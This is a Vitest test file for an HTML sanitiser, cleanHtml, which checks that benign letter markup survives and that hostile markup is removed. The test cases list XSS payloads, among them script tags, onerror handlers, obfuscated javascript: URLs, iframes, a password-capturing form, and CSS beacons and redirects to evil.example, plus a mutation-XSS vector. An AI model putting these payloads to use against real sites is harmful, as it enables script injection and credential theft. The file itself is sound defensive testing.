import { expect, test } from 'vitest'
import { cleanHtml } from './cleanHtml'

test('text, tables, pictures and colours of a letter stay', () => {
  const letter =
    '<h2>标题</h2><p style="color: red; text-align: center">文字</p><table><tbody><tr><td>1</td></tr></tbody></table><img src="/adwebv21/sys/common/static/a.png" alt="图">'
  const shown = cleanHtml(letter)
  expect(shown).toContain('<h2>标题</h2>')
  expect(shown).toContain('color:red;text-align:center')
  expect(shown).toContain('<td>1</td>')
  expect(shown).toContain('src="/adwebv21/sys/common/static/a.png"')
})

test.each([
  ['a script', '<script>steal()</script>'],
  ['a handler', '<img src=x onerror="steal()">'],
  ['a script address', '<a href="javascript:steal()">x</a>'],
  ['a hidden script address', '<a href="java&#10;script:steal()">x</a>'],
  ['a frame', '<iframe src="https://evil.example"></iframe>'],
  ['a frame document', '<iframe srcdoc="<script>steal()</script>"></iframe>'],
  ['an object', '<object data="javascript:steal()"></object>'],
  ['a drawing with a script', '<svg><script>steal()</script></svg>'],
  ['a form for the password', '<form action="https://evil.example"><input name="steal"></form>'],
  ['a style sheet', '<style>body{background:url(https://evil.example/steal)}</style>'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['a base', '<base href="https://evil.example/">'],
  ['a script in a style', '<p style="background:url(javascript:steal())">x</p>'],
  ['a mutation', '<math><mtext><table><mglyph><style><img src=x onerror=steal()></style>'],
])('%s is removed', (_, html) => {
  expect(cleanHtml(html)).not.toMatch(/steal|evil|javascript|<(script|iframe|form|input|style)/i)
})

test.each([
  ['position: fixed; inset: 0'],
  ['position: absolute; top: 0'],
  ['margin-top: -400px'],
  ['z-index: 9999'],
  ['transform: translate(-50%, -50%)'],
  ['background-image: url(https://evil.example/pixel.png)'],
])('no style takes an element out of its place or loads an address: %s', (style) => {
  const shown = cleanHtml(`<p style="${style}; color: red">x</p>`)
  expect(shown).toMatch(/^<p style="color:red">x<\/p>$/)
})

test('a link opens beside the console and does not know it', () => {
  expect(cleanHtml('<a href="https://example.com" target="_top">x</a>')).toBe(
    '<a href="https://example.com" target="_blank" rel="noopener noreferrer">x</a>',
  )
})

test('names and ids that would stand in the way of the page are removed', () => {
  expect(cleanHtml('<p id="content" class="header" name="x">x</p>')).toBe('<p>x</p>')
})
